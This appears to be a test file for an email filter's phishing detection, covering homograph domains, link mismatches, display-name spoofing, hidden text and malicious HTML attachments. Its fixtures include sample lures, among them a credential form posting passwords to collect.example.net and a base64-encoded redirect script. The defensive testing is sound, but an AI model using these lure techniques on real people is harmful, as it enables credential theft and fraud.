"""Phishing rules: look-alike domains, link text, display names, blocklist, HTML forms."""

from __future__ import annotations

import os
import sys
from email.message import EmailMessage
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from postvern.filters import FilterSettings, ScanContext, analyse, decide
from postvern.filters.blocklist import Blocklist
from postvern.filters.confusables import skeleton
from postvern.filters.content import read_content
from postvern.filters.htmlscan import scan_html
from postvern.filters.phishing import PhishingContext, check_phishing
from postvern.filters.urls import find_text_urls, link_mismatches, parse_url, strip_urls

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tools"))
import train_spam

CYRILLIC_PAYPAL = "р\u0430ypal.com"  # Cyrillic "р" (U+0440) and "а" (U+0430)


def html_message(
    html: str,
    *,
    sender: str = "Accounts <accounts@mailer.example.net>",
    subject: str = "Your account",
    attachments: tuple[tuple[str, bytes, str], ...] = (),
) -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "bob@example.com"
    msg["Subject"] = subject
    msg.set_content("Please read the HTML version.")
    msg.add_alternative(html, subtype="html")
    for name, data, ctype in attachments:
        maintype, subtype = ctype.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes()


def codes(raw: bytes, **ctx: object) -> dict[str, str]:
    hits = check_phishing(read_content(raw), PhishingContext(**ctx))  # type: ignore[arg-type]
    return {h.code: h.detail for h in hits}


def test_skeletons_fold_confusables() -> None:
    assert skeleton(CYRILLIC_PAYPAL) == skeleton("paypal.com")
    assert skeleton("paypa1.com") == skeleton("paypal.com")
    assert skeleton("rnicrosoft.com") == skeleton("microsoft.com")
    assert skeleton("ｐａｙｐａｌ.com") == skeleton("paypal.com")  # fullwidth, via NFKC
    assert skeleton("pаypál.com") == skeleton("paypal.com")  # accents dropped
    assert skeleton("example.org") != skeleton("paypal.com")


def test_cyrillic_homograph_in_link_is_detected() -> None:
    raw = html_message(f'<p>Sign in: <a href="https://{CYRILLIC_PAYPAL}/signin">here</a></p>')
    found = codes(raw)
    assert "PHISH_HOMOGRAPH" in found
    assert "xn--" in found["PHISH_HOMOGRAPH"] and "PayPal" in found["PHISH_HOMOGRAPH"]


def test_punycode_homograph_and_sender_domain() -> None:
    ascii_form = CYRILLIC_PAYPAL.encode("idna").decode()
    assert ascii_form.startswith("xn--")
    raw = html_message(
        f'<a href="http://{ascii_form}/x">Continue</a>', sender=f"Service <service@{ascii_form}>"
    )
    assert "PHISH_HOMOGRAPH" in codes(raw)


def test_digit_lookalike_of_a_brand() -> None:
    assert "PHISH_HOMOGRAPH" in codes(html_message('<a href="https://paypa1.com/">x</a>'))


def test_the_real_brand_domain_is_not_a_homograph() -> None:
    raw = html_message(
        '<a href="https://www.paypal.com/signin">www.paypal.com</a>',
        sender="PayPal <service@paypal.com>",
    )
    assert codes(raw) == {}


def test_lookalike_of_the_recipients_own_domain() -> None:
    raw = html_message("<p>Please pay the attached invoice today.</p>",
                       sender="The CEO <ceo@examp1e.com>")  # fmt: skip
    found = codes(raw, recipient_domains=("example.com",))
    assert "PHISH_OWN_DOMAIN_LOOKALIKE" in found
    assert "example.com" in found["PHISH_OWN_DOMAIN_LOOKALIKE"]
    assert "PHISH_OWN_DOMAIN_LOOKALIKE" not in codes(raw, recipient_domains=("other.org",))


def test_link_text_showing_another_domain() -> None:
    brand = html_message('<a href="http://login-check.example.net/p">https://www.paypal.com/</a>')
    assert "PHISH_LINK_BRAND_MISMATCH" in codes(brand)
    plain = html_message('<a href="http://tracker.example.net/c/1">www.example.org</a>')
    found = codes(plain)
    assert found.get("PHISH_LINK_MISMATCH") == "link shows example.org but opens example.net"


def test_matching_or_wordy_link_text_is_fine() -> None:
    raw = html_message(
        '<a href="https://www.example.org/a">www.example.org</a> '
        '<a href="https://news.example.org/b">Read more</a> '
        '<a href="https://files.example.net/c">report.pdf</a>'
    )
    assert codes(raw) == {}


def test_display_name_brand_spoofing() -> None:
    spoof = html_message("<p>Verify now</p>", sender='"PayPal Support" <x@random-host.example>')
    assert "PHISH_FROM_BRAND_SPOOF" in codes(spoof)
    common_word = html_message("<p>Lunch?</p>", sender="Chase Miller <chase@mail.example>")
    assert codes(common_word) == {}
    claimed = html_message("<p>Alert</p>", sender="Chase Online Banking <a@mail.example>")
    assert "PHISH_FROM_BRAND_SPOOF" in codes(claimed)
    signed = html_message("<p>Receipt</p>", sender="PayPal <receipts@mailer.example>")
    assert "PHISH_FROM_BRAND_SPOOF" not in codes(signed, verified_domains=("paypal.com",))


def test_display_name_showing_another_address() -> None:
    raw = html_message("<p>x</p>", sender='"security@bank.example" <drop@elsewhere.example>')
    assert "PHISH_FROM_NAME_ADDRESS" in codes(raw)


def plain_message(sender: str, text: str = "Your parcel is held at customs.") -> bytes:
    return (f"From: {sender}\r\nTo: bob@example.com\r\nSubject: Notice\r\n\r\n{text}\r\n"
            .encode())  # fmt: skip


def test_a_sender_address_without_a_domain_name() -> None:
    for sender in (
        "Correios <avisos@correios>",
        "Taxas <taxas@%pagamentos.com>",
        "Notice <noreply@localhost>",
        "Support ,_<x@host.example>, y",
    ):
        assert "PHISH_FROM_NOT_A_DOMAIN" in codes(plain_message(sender)), sender
    for sender in (
        "Ana <ana@correios.com.br>",
        "Ops <ops@mail.example.co.uk.>",
        "Literal <root@[192.0.2.1]>",
        "B\u00fccher <info@b\u00fccher.example>",
        "No address at all",
    ):
        assert "PHISH_FROM_NOT_A_DOMAIN" not in codes(plain_message(sender)), sender


def test_a_from_field_naming_several_senders() -> None:
    for sender in (
        '"Delivery@GLS.de", <reply@telekom.example>',  # the reader sees GLS, DMARC the other
        "Booking.com, <service@stayfriends.example>",  # an unquoted comma makes two
        "Kyc<a@nhs.example>b@nhs.example",
    ):
        assert "PHISH_FROM_SEVERAL" in codes(plain_message(sender)), sender
    for sender in (
        '"Doe, Jane" <jane@example.org>',  # a quoted comma is part of the name
        "service@paypal.example <service@paypal.example>",  # the name repeats the address
        "Jane Doe <jane@example.org>",
    ):
        assert "PHISH_FROM_SEVERAL" not in codes(plain_message(sender)), sender
    # RFC 5322 §3.6.2: several authors are legitimate when Sender names who sent it.
    raw = plain_message("ann@example.org, bob@example.org").replace(
        b"To:", b"Sender: ann@example.org\r\nTo:"
    )
    assert "PHISH_FROM_SEVERAL" not in codes(raw)


def test_widely_imitated_regional_brands() -> None:
    spoof = html_message("<p>Pague a taxa</p>", sender="Correios <rastreio@mailer.example>")
    assert "PHISH_FROM_BRAND_SPOOF" in codes(spoof)
    real = html_message("<p>Rastreio</p>", sender="Correios <rastreio@correios.com.br>")
    assert "PHISH_FROM_BRAND_SPOOF" not in codes(real)
    # The brand's name alone, with no public suffix, is not the brand's domain.
    bare = html_message("<p>Pague a taxa</p>", sender="Correios <avisos@correios>")
    assert "PHISH_FROM_BRAND_SPOOF" in codes(bare)


def test_url_tricks() -> None:
    url = parse_url("https://www.paypal.com@evil.example/login")
    assert url is not None and url.host == "evil.example" and url.has_userinfo
    assert parse_url("http://192.0.2.7/x").is_ip  # type: ignore[union-attr]
    assert parse_url("http://3221225991/x").is_ip  # type: ignore[union-attr]
    assert parse_url("mailto:bob@example.org") is None
    assert [parse_url(u).host for u in find_text_urls("see hxxps://bad.example/x now")] == [  # type: ignore[union-attr]
        "bad.example"
    ]
    raw = html_message('<a href="https://www.paypal.com@evil.example/">sign in</a>')
    assert "PHISH_URL_USERINFO" in codes(raw)


def test_urls_in_text_in_every_written_form() -> None:
    text = (
        "Go to WWW.Example.COM/a, Www2.example.org or h**ps://c.example/x; also "
        "FTP://files.example/f and HTTPS://d.example."
    )
    found = find_text_urls(text)
    assert found == [
        "WWW.Example.COM/a,", "Www2.example.org", "h**ps://c.example/x;",
        "FTP://files.example/f", "HTTPS://d.example.",
    ]  # fmt: skip
    assert find_text_urls("no links here, just words and a colon: see") == []
    assert strip_urls(text).split() == ["Go", "to", "or", "also", "and"]


def test_blocklist_is_reloaded_when_the_file_changes(tmp_path: Path) -> None:
    path = tmp_path / "blocklist.txt"
    path.write_text("# phishing hosts\nbad.example\nhttps://files.example.org/evil/\n")
    blocklist = Blocklist(path)
    raw_bad = html_message('<a href="https://login.bad.example/x">x</a>')
    raw_worse = html_message('<a href="http://worse.example/">x</a>')
    raw_prefix = html_message('<a href="https://files.example.org/evil/kit.zip">x</a>')
    raw_fine = html_message('<a href="https://files.example.org/docs/">x</a>')
    assert "URL_BLOCKLISTED" in codes(raw_bad, blocklist=blocklist)
    assert "URL_BLOCKLISTED" in codes(raw_prefix, blocklist=blocklist)
    assert "URL_BLOCKLISTED" not in codes(raw_fine, blocklist=blocklist)
    assert "URL_BLOCKLISTED" not in codes(raw_worse, blocklist=blocklist)

    stat = path.stat()
    path.write_text("worse.example\n")
    os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000_000))
    assert "URL_BLOCKLISTED" in codes(raw_worse, blocklist=blocklist)
    assert "URL_BLOCKLISTED" not in codes(raw_bad, blocklist=blocklist)

    path.unlink()  # a vanished file keeps the last good list in force
    assert "URL_BLOCKLISTED" in codes(raw_worse, blocklist=blocklist)
    assert blocklist.error


def test_blocklist_from_settings_in_the_verdict(tmp_path: Path) -> None:
    path = tmp_path / "list.txt"
    path.write_text("bad.example\n")
    ctx = ScanContext(settings=FilterSettings(url_blocklist=str(path)))
    verdict = decide(
        analyse(html_message('<a href="https://bad.example/">x</a>'), ctx), ctx.settings
    )
    assert verdict.action in ("junk", "reject")
    assert any(r.startswith("URL_BLOCKLISTED") for r in verdict.reasons)


def test_credential_form_in_html_attachment() -> None:
    page = (
        b"<html><body><h1>Document viewer</h1><form method=post "
        b'action="https://collect.example.net/p.php"><input name=email>'
        b"<input type=password name=pw><button>Open</button></form></body></html>"
    )
    raw = html_message("<p>Your fax is attached.</p>",
                       attachments=(("fax_0394.html", page, "text/html"),))  # fmt: skip
    assert "PHISH_HTML_ATTACHMENT_FORM" in codes(raw)
    verdict = decide(analyse(raw, ScanContext()), FilterSettings())
    assert verdict.action != "inbox"


def test_redirecting_html_attachment() -> None:
    page = b'<html><script>window.location.href = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUv");</script>'
    raw = html_message("<p>Invoice</p>", attachments=(("invoice.htm", page, "text/html"),))
    assert "PHISH_HTML_ATTACHMENT_REDIRECT" in codes(raw)


def test_plain_html_attachment_passes() -> None:
    page = b"<html><body><p>Minutes of the meeting</p><a href='https://example.org/'>site</a>"
    raw = html_message(
        "<p>Minutes attached.</p>", attachments=(("minutes.html", page, "text/html"),)
    )
    assert codes(raw) == {}


def delivery_report(notification: bytes, *, sender: bytes = b"postmaster@example.org") -> bytes:
    """An Exchange-style bounce: HTML notification, delivery status, the returned message."""
    return (
        b'From: "Microsoft Outlook" <' + sender + b">\r\nTo: bob@example.com\r\n"
        b"Subject: Undeliverable: budget meeting\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/report; report-type=delivery-status; boundary="R"\r\n\r\n'
        b"--R\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body>"
        + notification
        + b"</body></html>\r\n--R\r\nContent-Type: message/delivery-status\r\n\r\n"
        b"Reporting-MTA: dns;mx.example.org\r\n\r\nFinal-Recipient: rfc822;jane@example.org\r\n"
        b"Action: failed\r\nStatus: 5.1.10\r\n\r\n--R\r\nContent-Type: message/rfc822\r\n\r\n"
        b"From: Bob <bob@example.com>\r\nTo: jane@example.org\r\nSubject: budget meeting\r\n"
        b"Content-Type: text/html\r\n\r\n"
        b'<p>The figures: <a href="https://sheets.example.net/budget">sheet</a></p>\r\n--R--\r\n'
    )


GENUINE_NOTICE = (
    b"<p>Your message to jane@example.org couldn't be delivered.</p>"
    b'<p><a href="https://go.microsoft.com/fwlink/?LinkId=532972">More info</a></p>'
)


def test_an_exchange_bounce_is_not_a_brand_spoof() -> None:
    # Exchange signs its bounces "Microsoft Outlook" from the postmaster of the bouncing
    # organisation; the report links only to Microsoft, the returned copy anywhere.
    raw = delivery_report(GENUINE_NOTICE)
    assert "PHISH_FROM_BRAND_SPOOF" not in codes(raw)
    assert decide(analyse(raw, ScanContext(macro_checker=None)), FilterSettings()).action == "inbox"


def test_a_forged_bounce_is_still_a_brand_spoof() -> None:
    elsewhere = GENUINE_NOTICE + b'<p><a href="https://mail-restore.example.net/">Release</a></p>'
    form = GENUINE_NOTICE + (
        b'<form action="https://example.org/owa"><input name=u><input type=password></form>'
    )
    for notification in (elsewhere, form):
        assert "PHISH_FROM_BRAND_SPOOF" in codes(delivery_report(notification))
    # The same notice as ordinary mail, not a report: the exemption needs the report.
    ordinary = html_message(GENUINE_NOTICE.decode(), sender="Microsoft Outlook <it@example.org>")
    assert "PHISH_FROM_BRAND_SPOOF" in codes(ordinary)


def test_links_that_hide_where_they_lead() -> None:
    bucket = html_message(
        '<a href="https://storage.googleapis.com/xk3pq/index.html">View document</a>'
    )
    assert "PHISH_BUCKET_PAGE" in codes(bucket)
    s3 = html_message('<a href="https://files.s3.eu-west-1.amazonaws.com/a/login.htm">Open</a>')
    assert "PHISH_BUCKET_PAGE" in codes(s3)
    image = html_message('<img src="https://storage.googleapis.com/shop/logo.png"> Sale')
    assert codes(image) == {}
    short = html_message('<a href="https://bit.ly/3PF2Fj5">Claim</a>')
    assert "PHISH_URL_SHORTENER" in codes(short)
    for code, text, hrefs in (
        ("PHISH_URL_REDIRECT", "Track your parcel", (
            "https://www.google.co.uk/url?q=https://parcel-fee.example/&amp;sa=D",
            "https://www.googleadservices.com/pagead/aclk?sa=L&amp;adurl=https://x.example/",
        )),
        ("PHISH_FORM_SERVICE", "Confirm your reservation", (
            "https://forms.gle/swApmnQazhy2iu3y9",
            "https://docs.google.com/forms/d/e/x/viewform",
        )),
    ):  # fmt: skip
        for href in hrefs:
            assert code in codes(html_message(f'<a href="{href}">{text}</a>')), href
    search = html_message('<a href="https://www.google.com/search?q=postvern">search</a>')
    assert "PHISH_URL_REDIRECT" not in codes(search)
    document = html_message('<a href="https://docs.google.com/document/d/x/edit">Minutes</a>')
    assert "PHISH_FORM_SERVICE" not in codes(document)


def test_a_random_code_in_the_subject_or_sender_name() -> None:
    for subject in ("Fatura Emitida - KtSaGYsPn9djSGR", "Crédito IR Liberado - v5V0ZVRe1Hjazli"):
        assert "PHISH_RANDOM_TOKEN" in codes(html_message("<p>x</p>", subject=subject))
    sender = "Support x7Gh2KqLm9Ab <s@mailer.example.net>"
    assert "PHISH_RANDOM_TOKEN" in codes(html_message("<p>x</p>", sender=sender))
    for subject in (
        "Your order 4050-ABCD1234XY has shipped",  # upper case and digits: an order number
        "Re: getElementById returns null",  # camel case without digits: an identifier
        "Invoice INV20240017 from Example Ltd",
        "Build 3f2a9c1e0b7d failed",  # lower-case hex: a commit
        "Your iPhone15Pro is ready for pickup",  # a product name
    ):
        assert "PHISH_RANDOM_TOKEN" not in codes(html_message("<p>x</p>", subject=subject))


def test_words_disguised_with_look_alike_letters() -> None:
    alpha = html_message("<p>Merge your wallet before M\u03b1rch 23rd.</p>")
    assert "PHISH_HOMOGLYPH_WORD" in codes(alpha)
    cyrillic = html_message("<p>x</p>", subject="\u0420aypal: account limited")
    assert "PHISH_HOMOGLYPH_WORD" in codes(cyrillic)
    # Whole words in one script, and units, are writing, not disguise.
    honest = "<p>Привет, Саша! Ελλάδα. A 3 \u03bcm filter and a 10 k\u03a9 resistor.</p>"
    assert "PHISH_HOMOGLYPH_WORD" not in codes(html_message(honest))


def test_words_in_mathematical_letters() -> None:
    styled = (
        "\U0001d416\U0001d41e\U0001d425\U0001d41c\U0001d428\U0001d426\U0001d41e"  # bold "Welcome"
    )
    assert "PHISH_STYLED_LETTERS" in codes(html_message("<p>x</p>", subject=styled + " offer"))
    assert "PHISH_STYLED_LETTERS" in codes(html_message(f"<p>{styled} to your prize</p>"))
    # One symbol in a formula is mathematics, not a disguise.
    formula = "<p>Let \U0001d465 be the distance and \U0001d466 the time.</p>"
    assert "PHISH_STYLED_LETTERS" not in codes(html_message(formula))


def test_hidden_text_is_kept_apart_from_what_a_reader_sees() -> None:
    doc = scan_html(
        "<p>Hello <span hidden>one</span>Bob,</p>"
        '<div style="display: none !important">cheap <b>pills</b><div>nested</div> here</div>'
        '<p style="visibility:hidden">two</p><span style="font-size:0px;">three</span>'
        '<span style="opacity:0">four</span><span style="font-size:0.8em">small but shown</span>'
        '<div style="display:none"><script>if (a<b) { s = "</div>"; }</script>five</div>'
        "<p>Regards</p>"
    )
    visible = " ".join(doc.text.split())
    assert visible == "Hello Bob, small but shown Regards"
    for word in ("one", "cheap", "pills", "nested", "two", "three", "four", "five"):
        assert word in doc.hidden_text
    assert doc.hidden_in_words == 0  # hidden blocks between words, as templates have


def test_mis_nested_markup_cannot_hide_what_a_browser_shows() -> None:
    # The hidden span is never closed inside its div: the div's end tag ends it, as an
    # HTML parser ends it, and the spam after it is read.
    doc = scan_html('<div><span style="display:none">x</div>Buy cheap meds now</span>')
    assert " ".join(doc.text.split()) == "Buy cheap meds now"
    assert doc.hidden_text == "x"
    # Links in hidden elements are still URLs of the message (blocklists see them).
    doc = scan_html('<div hidden><a href="https://bad.example/x">t</a></div>')
    assert doc.urls == ["https://bad.example/x"] and doc.links == []


def test_letters_hidden_inside_words_zerofont() -> None:
    hide = '<span style="font-size:0">{}</span>'
    body = (
        f"<p>Your Micro{hide.format('qz')}soft acc{hide.format('xx')}ount will be "
        f"clo{hide.format('v')}sed: <a href='https://login.example.net/'>verify</a></p>"
    )
    doc = scan_html(body)
    assert "Microsoft account will be closed" in doc.text
    assert doc.hidden_in_words == 3
    found = codes(html_message(body))
    assert found["PHISH_HIDDEN_IN_WORDS"] == "3 hidden pieces of text inside visible words"
    # One stray empty span in a word is a template's accident, not the trick.
    assert "PHISH_HIDDEN_IN_WORDS" not in codes(html_message(f"<p>Hel{hide.format('')}lo</p>"))


def test_zerofont_phishing_from_the_corpus() -> None:
    """Real messages (phishing_pot) that hide letters inside words."""
    folder = train_spam.DEFAULT_CORPORA / "phishing" / "phishing_pot"
    for name in ("sample-1671.eml", "sample-3588.eml"):
        assert "PHISH_HIDDEN_IN_WORDS" in codes((folder / name).read_bytes()), name


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("<>/=\"' ahrefxn-.:@!?[]\u0430\u0440pу"), max_size=300))
def test_html_and_url_readers_never_raise(text: str) -> None:
    doc = scan_html(text)
    for raw in [*doc.urls, *find_text_urls(text), text]:
        url = parse_url(raw)
        if url is not None:
            assert skeleton(url.host) is not None and url.domain is not None
    link_mismatches(doc.links)


def test_real_phishing_is_not_delivered_to_the_inbox() -> None:
    """Held-out phishing (both corpora) mostly lands in Junk or is refused. (Since #13 a
    lure needs two families of evidence, say its words and its links, or its links and its
    sender; in bench/filter_eval.py about four in five do.)"""
    samples = [
        s for s in train_spam.load_corpora(train_spam.DEFAULT_CORPORA)
        if s.kind == "phish" and s.part == "eval"
    ]  # fmt: skip
    chosen = samples[:: max(1, len(samples) // 60)]
    caught = sum(decide(analyse(s.raw, ScanContext()), FilterSettings()).is_spam for s in chosen)
    assert caught >= 0.75 * len(chosen)
